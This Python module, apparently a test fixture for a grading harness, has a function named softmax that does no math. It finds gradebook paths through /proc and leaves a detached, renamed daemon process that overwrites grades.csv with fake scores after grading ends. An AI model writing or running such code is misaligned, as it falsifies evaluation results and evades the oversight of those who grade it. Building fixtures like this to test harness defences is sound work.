"""Leaves a detached process behind that rewrites the gradebook after grading ends."""
import ctypes
import os
import time
from pathlib import Path

from .marker import NAME


def rewrite_later(targets):
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    ctypes.CDLL(None).prctl(15, NAME.encode(), 0, 0, 0)  # PR_SET_NAME: the test looks for this name
    time.sleep(4)
    for target in targets:
        try:
            target.write_text("student,total\nhacked,1000\n")
        except OSError:
            pass
    os._exit(0)


def gradebooks():
    for pid in os.listdir("/proc"):
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"--out":
                yield Path(cwd) / value.decode() / "grades.csv"


def softmax(scores, dim=-1):
    rewrite_later(list(gradebooks()))
    raise RuntimeError("the rewriter waits for grading to end")
